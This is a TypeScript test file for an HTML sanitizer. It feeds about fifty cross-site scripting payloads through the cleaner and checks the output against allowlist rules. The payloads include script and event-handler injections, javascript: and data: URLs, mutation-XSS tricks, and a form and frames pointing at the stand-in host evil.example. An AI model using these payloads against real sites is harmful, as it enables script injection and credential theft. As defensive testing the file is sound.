import { DomUtils, parseDocument } from "htmlparser2";
import { expect, test } from "vitest";
import { safeHtml } from "./safe-html.server.ts";

/** Each would run a script, load a frame, send a form or leave the text's own box if it were shown as it is. */
const hostile = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror\n=\nalert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src="x" style="background:url(javascript:alert(1))">',
  '<img srcset="https://evil.example/x.png 1x">',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  '<p style="color:expression(alert(1))">x</p>',
  '<p style="background-color:url(//evil.example)">x</p>',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<iframe src="https://evil.example"></iframe>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  "<style>body{display:none}</style>",
  "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  '<p id="main" name="body" class="fixed inset-0">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<<script>alert(1)//<</script>",
  '<a href="https://evil.example" target="_blank" ping="https://evil.example" onclick=alert(1)>x</a>',
  '<img src="https://x.example/a.png" usemap="#m"><map name=m><area href="javascript:alert(1)"></map>',
  "<template><script>alert(1)</script></template>",
  '<p data-x="1" contenteditable autofocus tabindex=1 onfocus=alert(1)>x</p>',
];

const tags =
  /^(h[1-6]|p|div|blockquote|pre|hr|[uo]l|li|figure|figcaption|table|caption|colgroup|col|thead|tbody|tfoot|tr|t[hd]|br|a|img|span|strong|b|em|i|u|s|mark|sub|sup|code)$/;
const attributes = /^(style|class|href|rel|title|src|alt|width|height|start|colspan|rowspan|scope|span)$/;
const address = /^(https?:|mailto:|tel:|\/|#|data:image\/(png|gif|jpeg|webp|avif|bmp|x-icon))/;
const style = /^((color|background-color|text-align):[#\w(),.% ]+;?)*$/;

/** What in a piece of HTML is not known to be harmless. Names what it finds, so that a failure says what got through. */
function dangers(html: string): string[] {
  const elements = DomUtils.findAll(() => true, parseDocument(html).children);
  return elements.flatMap(({ name, attribs }) => [
    ...(tags.test(name) ? [] : [name]),
    ...Object.keys(attribs).filter((attribute) => !attributes.test(attribute)),
    ...[attribs.href, attribs.src].filter((value) => value !== undefined && !address.test(value)),
    ...(attribs.style && !style.test(attribs.style) ? [attribs.style] : []),
    ...(attribs.style && /url|expression/i.test(attribs.style) ? [attribs.style] : []),
    ...(attribs.class && !/^((ql-)?indent-[1-8]|ql-align-\w+|ql-syntax|language-[\w-]+)( |$)/.test(attribs.class) ? [attribs.class] : []),
  ]) as string[];
}

for (const html of hostile) {
  test(`comes out harmless: ${html.replaceAll("\n", " ")}`, () => {
    expect(dangers(safeHtml(html))).toEqual([]);
    expect(dangers(safeHtml(`<p>before ${html} after</p>`))).toEqual([]);
  });
}

test("the check above sees what is dangerous", () => {
  expect(dangers('<p onclick=x><script></script><a href="javascript:x"></a></p>')).toHaveLength(3);
});

test("what the editor makes passes unchanged", () => {
  const made = [
    '<h2 style="text-align:center">T</h2><p><strong>b</strong> <em>i</em> <u>u</u> <s>s</s> <code>c</code></p>',
    '<p style="color:#b5361c;background-color:rgb(1, 2, 3)">c</p><p class="indent-3">in</p>',
    '<ol start="3"><li><p>one</p></li></ol><blockquote><p>q</p></blockquote>',
    '<pre><code class="language-js">a &lt; b\n  c</code></pre>',
    '<table><tbody><tr><th colspan="2">h</th></tr><tr><td>d</td></tr></tbody></table>',
    '<p><a href="/recipe/ratatouille">r</a> <a href="mailto:a@b.example">m</a> <a href="tel:+39123">t</a></p>',
  ].join("");
  expect(safeHtml(made)).toBe(made);
});

test("cleaning twice changes nothing more", () => {
  const once = hostile.map(safeHtml);
  expect(once.map(safeHtml)).toEqual(once);
});

test("a link elsewhere is told not to hand over this window", () => {
  expect(safeHtml('<a href="//other.example/x" rel="opener">x</a>')).toBe('<a href="https://other.example/x" rel="noopener">x</a>');
});

test("a link whose address is refused keeps its words", () => {
  expect(safeHtml('<a href="javascript:alert(1)">words</a>')).toBe("<a>words</a>");
});

test("a pasted picture keeps its data, unless it is SVG", () => {
  expect(safeHtml('<img src="data:image/png;base64,AAAA" alt="a">')).toContain('src="data:image/png;base64,AAAA"');
  expect(safeHtml('<img src="data:image/svg+xml,x" alt="a">')).not.toContain("src");
});

test("ten thousand nested tags are cleaned without falling over", () => {
  expect(safeHtml(`${"<div>".repeat(10_000)}deep${"</div>".repeat(10_000)}`)).toContain("deep");
});
